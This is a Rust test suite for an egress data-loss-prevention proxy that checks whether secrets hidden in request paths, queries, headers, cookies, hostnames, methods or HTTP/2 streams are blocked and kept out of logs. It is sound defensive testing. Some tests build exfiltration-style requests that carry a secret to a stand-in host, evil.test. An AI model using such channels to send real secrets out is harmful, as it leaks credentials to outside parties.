//! Secrets in the head of a request: found before any byte leaves, and before a name is asked for.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use bottle_contract::audit::Outcome;
use bottle_contract::config::LogLevel;
use bottle_contract::verdict::Reason;
use http::Request;

use crate::agent::{Answer, read_h2};
use crate::dlp_world::{CANARY, NEIGHBOUR, PLACEHOLDER, REAL, SECRET, bottle, keeper};
use crate::origin::text;

fn check_stopped(answer: &Answer, word: &str) {
    assert_eq!(
        (answer.status.as_u16(), answer.header("x-bottle-denied")),
        (403, word),
        "{answer:?}"
    );
    for value in [SECRET, REAL, CANARY, PLACEHOLDER] {
        let body = answer.body.to_lowercase();
        assert!(!body.contains(&value.to_lowercase()), "{}", answer.body);
    }
}

/// How a part of a head is made of a value.
type Made = fn(&str) -> String;
/// A header, where there is one.
type Header = Option<(&'static str, Made)>;

#[tokio::test]
async fn a_secret_in_any_part_of_a_head_does_not_leave_and_its_neighbour_does() {
    let world = bottle().start().await;
    let (origin, got) = keeper(&world, &[]).await;
    let cases: [(&str, Made, Header, &str); 7] = [
        ("path", |value| format!("/a/{value}/b"), None, "path"),
        ("query", |value| format!("/?q={value}"), None, "query"),
        (
            "the name in a query",
            |value| format!("/?{value}=1"),
            None,
            "query",
        ),
        (
            "percent",
            |value| format!("/?q={}", value.replace('-', "%2D")),
            None,
            "query",
        ),
        (
            "header",
            |_| "/".to_owned(),
            Some(("x-note", |value| format!("see {value}"))),
            "header x-note",
        ),
        (
            "base64 in a header",
            |_| "/".to_owned(),
            Some(("x-note", |value| STANDARD.encode(value))),
            "header x-note",
        ),
        (
            "cookie",
            |_| "/".to_owned(),
            Some(("cookie", |value| format!("a=1; b={value}"))),
            "header cookie",
        ),
    ];
    for (what, target, header, place) in cases {
        for (value, arrives) in [(SECRET, false), (NEIGHBOUR, true)] {
            let line = header.map(|(name, made)| (name, made(value)));
            let headers: Vec<(&str, &str)> =
                line.iter().map(|(name, value)| (*name, &**value)).collect();
            let url = format!("https://plain.test{}", target(value));
            let answer = world.agent.ask("GET", &url, &headers, "").await;
            if arrives {
                assert_eq!(answer.status, 200, "{what}: {}", answer.body);
                assert_eq!(got.take().len(), 1, "{what}");
            } else {
                check_stopped(&answer, "secret");
                assert!(answer.body.contains("`SECRET`"), "{what}: {}", answer.body);
                assert!(got.take().is_empty(), "{what}");
                world.stopped_by("SECRET", place);
            }
        }
    }
    assert!(origin.connections() > 0);
    world.log_is_clean();
}

#[tokio::test]
async fn a_secret_in_a_name_is_not_asked_for() {
    let world = bottle().start().await;
    let (origin, got) = keeper(&world, &[]).await;
    let label = |value: &str| format!("https://{}.wild.test/", value.to_lowercase());
    let answer = world.agent.get(&label(SECRET)).await;
    check_stopped(&answer, "secret");
    world.stopped_by("SECRET", "host");
    assert!(world.fake.looked_up.lock().unwrap().is_empty());
    assert_eq!(origin.connections(), 0);
    assert_eq!(world.agent.get(&label(NEIGHBOUR)).await.status, 200);
    assert_eq!(got.take().len(), 1);
    world.log_is_clean();
}

#[tokio::test]
async fn what_the_policy_denies_leaves_no_secret_in_the_log_either() {
    let mut setup = bottle();
    setup.config.log = LogLevel::Headers;
    let world = setup.start().await;
    for url in [
        format!("https://{}.evil.test/", SECRET.to_lowercase()),
        format!("http://evil.test/{CANARY}"),
        format!("http://evil.test/?{REAL}=1"),
    ] {
        let answer = world.agent.get(&url).await;
        check_stopped(&answer, "host");
    }
    let note = [("x-note", SECRET)];
    let answer = world
        .agent
        .ask("GET", "http://evil.test/x", &note, "")
        .await;
    check_stopped(&answer, "host");
    let malformed = format!("GET /{SECRET}#a HTTP/1.1\r\nHost: {SECRET}\r\n\r\n");
    assert!(
        world
            .agent
            .raw(&malformed)
            .await
            .starts_with("HTTP/1.1 400")
    );
    assert_eq!(world.decisions().len(), 5);
    world.log_is_clean();
    // What holds no secret is there.
    world.agent.get("http://evil.test/harmless").await;
    let last = world.last_denial();
    assert_eq!(last.path.as_deref(), Some("/harmless"));
    assert_eq!(last.host.as_deref(), Some("evil.test"));
}

#[tokio::test]
async fn the_canary_and_a_real_value_are_named_for_what_they_are() {
    let world = bottle().start().await;
    let (_origin, got) = keeper(&world, &[]).await;
    for (value, word, reason, detector) in [
        (CANARY, "canary", Reason::Canary, "canary"),
        (REAL, "secret", Reason::Secret, "REAL"),
        (PLACEHOLDER, "placeholder", Reason::Placeholder, "TOKEN"),
    ] {
        let url = format!("https://plain.test/{value}");
        check_stopped(&world.agent.get(&url).await, word);
        let decision = world.stopped_by(detector, "path");
        assert_eq!(decision.reason, Some(reason));
        assert_eq!(decision.remedy(), None);
    }
    assert!(got.take().is_empty());
    world.log_is_clean();
}

#[tokio::test]
async fn streams_of_http2_are_looked_through_one_by_one() {
    let world = bottle().start().await;
    let (_origin, got) = keeper(&world, &[b"h2"]).await;
    let mut sender = world.agent.h2("plain.test").await;
    for (path, status) in [
        (format!("/{NEIGHBOUR}"), 200),
        (format!("/{SECRET}"), 403),
        ("/after".to_owned(), 200),
    ] {
        let request = Request::get(format!("https://plain.test{path}"));
        let answer = read_h2(&mut sender, request.body(text("")).unwrap()).await;
        assert_eq!(answer.status, status, "{path}");
    }
    let got = got.take();
    assert_eq!(got.len(), 2, "{got:?}");
    assert!(got.iter().all(|arrived| !arrived.holds(SECRET)));
    world.log_is_clean();
}

#[tokio::test]
async fn a_method_can_carry_nothing_out() {
    let world = bottle().start().await;
    let (_origin, got) = keeper(&world, &[]).await;
    let answer = world
        .agent
        .ask(SECRET, "https://plain.test/", &[], "")
        .await;
    check_stopped(&answer, "secret");
    world.stopped_by("SECRET", "method");
    assert!(got.take().is_empty());
    let answer = world
        .agent
        .ask(NEIGHBOUR, "https://plain.test/", &[], "")
        .await;
    assert_eq!(answer.status, 200);
    world.log_is_clean();
}

/// An agent may have a token of its own, and the header is where it belongs; anywhere else it is
/// on its way to somebody who should not have it.
#[tokio::test]
async fn a_vendors_token_goes_where_tokens_belong_and_nowhere_else() {
    let world = bottle().start().await;
    let (_origin, got) = keeper(&world, &[]).await;
    // Made up, with the shape that the vendor documents.
    let token = format!("ghp_{}", "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6");
    let bearer = format!("Bearer {token}");
    let headers = [("authorization", &*bearer)];
    let answer = world
        .agent
        .ask("GET", "https://plain.test/", &headers, "")
        .await;
    assert_eq!(answer.status, 200, "{}", answer.body);
    assert!(got.take()[0].holds("authorization"));
    let decision = world.decisions().pop().unwrap();
    assert_eq!(decision.verdict, Outcome::Allow);
    assert_eq!(decision.warnings.len(), 1, "{decision:?}");
    assert_eq!(decision.warnings[0].place, "header authorization");

    let answer = world
        .agent
        .get(&format!("https://plain.test/?t={token}"))
        .await;
    check_stopped(&answer, "token");
    assert!(got.take().is_empty());
    let log = std::fs::read_to_string(&world.log).unwrap();
    assert!(!log.contains(&token), "{log}");
}
